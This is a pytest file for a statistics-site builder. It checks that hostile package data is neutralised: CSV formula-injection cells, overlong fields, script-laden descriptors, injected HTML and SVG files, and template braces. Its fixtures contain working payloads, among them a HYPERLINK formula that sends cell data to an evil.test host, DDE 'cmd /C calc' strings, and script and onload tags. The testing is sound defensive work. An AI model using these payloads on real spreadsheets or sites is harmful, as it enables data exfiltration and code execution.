"""Hostile data in what the site writes (attack report F1, F7, F8, F11, F12): files, CSV cells, text, placeholders."""

from __future__ import annotations

import csv
import html
import io
import json
import math
import shutil
import zipfile
from pathlib import Path

import pytest

from jamsostek import charts
from jamsostek.__main__ import main
from jamsostek.data import DESCRIPTOR, DataPackage, canonical_descriptor, load, read_files, read_tables, validate
from jamsostek.exports import static
from jamsostek.exports.files import ZIP_FOLDER, chart_csv, data_zip
from tests.conftest import ROOT, SITE_TODAY
from tests.live_helpers import Member, PackageServer, Reply, package_copy, package_members, package_routes, raw_zip

BUNDLED_DESCRIPTOR = (ROOT / "data" / DESCRIPTOR).read_bytes()
OWN_FILES = sorted([DESCRIPTOR] + [r["path"] for r in canonical_descriptor()["resources"]])
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
# file, row (file line, header = 1), field, planted text
FORMULAS = [
    ("bases.csv", 3, "label_en", HYPERLINK),  # potential-workers: the base of the newest city figure
    ("sources.csv", 2, "publisher", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("sources.csv", 2, "title", "-2+3+cmd|' /C calc'!A0"),
    ("notes.csv", 2, "note_en", "+1+1"),
    ("changelog.csv", 2, "change_en", "\t=1+1"),
    ("discounts.csv", 2, "label_en", "=1+1"),
    ("contributions.csv", 2, "basis", "\r=2+2"),
]


def plant(directory: Path, file: str, row: int, field: str, value: str) -> None:
    """Set one cell of a package CSV (``row`` is the file line, the header being 1), quoting as CSV does."""
    path = directory / file
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    rows[row - 1][rows[0].index(field)] = value
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)  # with \n as line end, csv leaves a CR unquoted
    path.write_text(out.getvalue(), encoding="utf-8")


def unchecked(directory: Path) -> DataPackage:
    """A package loaded past the validator: what the writers get if a check ever misses something."""
    canonical = canonical_descriptor()
    files = read_files(directory, canonical)
    return DataPackage(directory, read_tables(directory, canonical, files), files)


@pytest.fixture(scope="module")
def formulas(tmp_path_factory) -> Path:
    directory = package_copy(tmp_path_factory.mktemp("formulas") / "pkg", new_observation=False)
    for file, row, field, value in FORMULAS:
        plant(directory, file, row, field, value)
    plant(directory, "changelog.csv", 3, "item", "-5")  # a number in a text field stays a number
    return directory


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def _cells(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8"), newline="")) for cell in row]


def _runnable_cells(name: str, raw: bytes) -> list[str]:
    return [f"{name}: {cell!r}" for cell in _cells(raw) if cell[:1] in "=+-@\t\r" and cell and not _is_number(cell)]


# --- F7: no CSV cell a spreadsheet would run ----------------------------------------------------------------------


def test_no_csv_the_site_writes_has_a_cell_a_spreadsheet_would_run(formulas, tmp_path):
    package = unchecked(formulas)
    site = static.build(tmp_path / "site", package, today=SITE_TODAY)
    written = {str(path.relative_to(site)): path.read_bytes() for path in site.rglob("*.csv")}
    with zipfile.ZipFile(io.BytesIO(data_zip(package, "en"))) as archive:
        written |= {f"zip/{name}": archive.read(name) for name in archive.namelist() if name.endswith(".csv")}
    for lang in ("id", "en"):
        written |= {f"app/{c}-{lang}.csv": chart_csv(package, c, lang) for c in charts.CHART_IDS}
    resources = len(canonical_descriptor()["resources"])  # each CSV in the light version and in the ZIP
    assert len(written) == 2 * resources + 4 * len(charts.CHART_IDS)
    assert [cell for name, raw in written.items() for cell in _runnable_cells(name, raw)] == []
    # the planted text did reach them, shown as text; numbers kept as they are
    assert "'" + HYPERLINK in _cells(written["charts/history-en.csv"])
    assert "'" + HYPERLINK in _cells(written["zip/" + ZIP_FOLDER + "/bases.csv"])
    changelog = list(csv.reader(io.StringIO(written["data/changelog.csv"].decode("utf-8"), newline="")))
    assert changelog[2][2] == "-5" and changelog[1][4] == "'\t=1+1"
    assert "'\r=2+2" in _cells(written["data/contributions.csv"])  # a CR inside a cell stays inside it


def test_clean_csvs_are_published_byte_for_byte(package, tmp_path):
    with zipfile.ZipFile(io.BytesIO(data_zip(package, "id"))) as archive:
        for name in OWN_FILES:
            assert archive.read(f"{ZIP_FOLDER}/{name}") == (ROOT / "data" / name).read_bytes()


def test_the_validator_names_every_formula_cell(formulas):
    problems = [(p.file, p.row, p.field, p.message) for p in validate(formulas)]
    for file, row, field, _value in FORMULAS:
        assert any(p[:3] == (file, row, field) and "formula" in p[3] for p in problems), (file, row, field, problems)
    assert not [p for p in problems if p[:3] == ("changelog.csv", 3, "item")]


# --- F8: text within its field's limit ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("file", "field", "limit"),
    [("sources.csv", "title", 300), ("sources.csv", "publisher", 300), ("bases.csv", "label_id", 300),
     ("notes.csv", "note_en", 1000), ("changelog.csv", "change_id", 300), ("discounts.csv", "label_en", 300)],
)  # fmt: skip
def test_text_longer_than_its_field_holds_is_refused(file, field, limit, tmp_path):
    directory = package_copy(tmp_path / "pkg", new_observation=False)
    plant(directory, file, 2, field, "a" * limit)
    assert validate(directory) == []
    plant(directory, file, 2, field, "a" * (limit + 1))
    problems = validate(directory)
    assert [(p.file, p.row, p.field) for p in problems] == [(file, 2, field)]
    assert f"{limit + 1} characters" in problems[0].message


def test_a_4_mb_title_is_refused(tmp_path):
    directory = package_copy(tmp_path / "pkg", new_observation=False)
    plant(directory, "sources.csv", 2, "title", "a" * 4_000_000)
    assert [(p.file, p.row, p.field) for p in validate(directory)] == [("sources.csv", 2, "title")]


# --- F1 and F12: only the package's own files, and the bundled descriptor, are published -------------------------


def _hostile_descriptor() -> bytes:
    descriptor = json.loads(BUNDLED_DESCRIPTOR)
    descriptor["title"] = "<script>alert(1)</script>"
    descriptor["resources"].append({"name": "steal", "path": "http://evil.test/steal.csv"})
    coverage = next(r for r in descriptor["resources"] if r["name"] == "coverage")
    next(f for f in coverage["schema"]["fields"] if f["name"] == "coverage_pct")["type"] = "string"
    return json.dumps(descriptor).encode("utf-8")


def _published(site: Path) -> list[str]:
    return sorted(str(p.relative_to(site / "data")) for p in (site / "data").rglob("*"))


@pytest.mark.parametrize("form", ["zip", "descriptor"])
def test_a_live_package_publishes_only_its_own_files_and_the_bundled_descriptor(form, tmp_path, capsys):
    pkg = package_copy(tmp_path / "pkg")
    (pkg / DESCRIPTOR).write_bytes(_hostile_descriptor())
    extras = [Member("pwn.html", b"<script>alert(document.domain)</script>"), Member("pwn.svg", b"<svg onload=x>")]
    with PackageServer() as server:
        if form == "zip":
            server.routes["/pkg.zip"] = Reply(raw_zip(package_members(pkg) + extras), content_type="application/zip")
            url = server.url("/pkg.zip")
        else:
            server.routes.update(package_routes(pkg))
            server.routes["/pkg/pwn.html"] = Reply(extras[0].data, content_type="text/html")
            url = server.url()
        assert main(["build-static", str(tmp_path / "site"), "--data-url", url]) == 0, capsys.readouterr().out
    site = tmp_path / "site"
    assert _published(site) == OWN_FILES
    ours = {site / "index.html"} | set(site.glob("id/*.html")) | set(site.glob("en/*.html"))
    assert [p for p in site.rglob("*") if p.suffix in (".svg", ".html") and p not in ours] == []
    assert (site / "data" / DESCRIPTOR).read_bytes() == BUNDLED_DESCRIPTOR
    assert "46%" in (site / "id" / "cakupan.html").read_text(encoding="utf-8")  # the live figures were used


def test_the_data_zip_holds_only_the_packages_files_and_the_bundled_descriptor(tmp_path):
    pkg = package_copy(tmp_path / "pkg")
    (pkg / DESCRIPTOR).write_bytes(_hostile_descriptor())
    (pkg / "pwn.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    package = load(pkg)
    with zipfile.ZipFile(io.BytesIO(data_zip(package, "en"))) as archive:
        names = sorted(archive.namelist())
        assert names == sorted([f"{ZIP_FOLDER}/{n}" for n in OWN_FILES] + [f"{ZIP_FOLDER}/README.md"])
        assert archive.read(f"{ZIP_FOLDER}/{DESCRIPTOR}") == BUNDLED_DESCRIPTOR


# --- F11: a stray {{ in data text is text --------------------------------------------------------------------------

BRACES = "{{ covered_workers }} }}{{"


def test_braces_in_data_text_build_and_show_literally(tmp_path):
    directory = package_copy(tmp_path / "pkg", new_observation=False)
    plant(directory, "sources.csv", 2, "title", BRACES)
    plant(directory, "sources.csv", 2, "publisher", "ANTARA " + BRACES)
    plant(directory, "bases.csv", 3, "label_en", BRACES)
    site = static.build(tmp_path / "site", load(directory), today=SITE_TODAY)
    page = (site / "en" / "cakupan.html").read_text(encoding="utf-8")
    assert "{{" not in page and "}}" not in page
    assert html.unescape(page).count(BRACES) >= 2  # the source title and the chart's base label, as text


def test_verify_still_finds_a_placeholder_our_own_pages_left(tmp_path, package):
    site = static.build(tmp_path / "site", package, today=SITE_TODAY)
    copy = tmp_path / "copy"
    shutil.copytree(site, copy)
    page = copy / "id" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</h1>", "{{ cost_now }}</h1>"), encoding="utf-8")
    assert static.verify(copy) == ["id/index.html: an unfilled placeholder"]
